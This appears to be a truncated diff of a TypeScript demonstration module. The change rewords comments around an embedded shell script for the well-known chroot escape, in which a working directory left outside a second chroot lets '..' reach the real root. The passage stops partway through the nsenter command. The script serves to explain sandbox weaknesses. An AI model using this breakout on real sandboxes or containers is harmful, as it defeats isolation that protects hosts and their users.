@@ -1,11 +1,11 @@
 import type { Topic } from './topic.ts';
 
-/** The directory of a demonstration, in the sandbox host. */
+/** The directory of the demonstration in the sandbox host. */
 const place = '/run/explain';
 
-/** chroot(2), NOTES: the superuser escapes from a chroot by a directory that is left outside. */
+/** The superuser escapes from a chroot with a working directory outside of it (chroot(2), NOTES). */
 const climb = `#!/bin/sh
-# A second chroot, with the working directory left outside of it: .. is never stopped.
+# After a second chroot the working directory is outside of it, so .. leads up to the real root.
 mkdir -p /tmp/hole/bin
 cp /bin/busybox /tmp/hole/bin
 nsenter --root=/tmp/hole --wd=/ /bin/busybox sh -c '
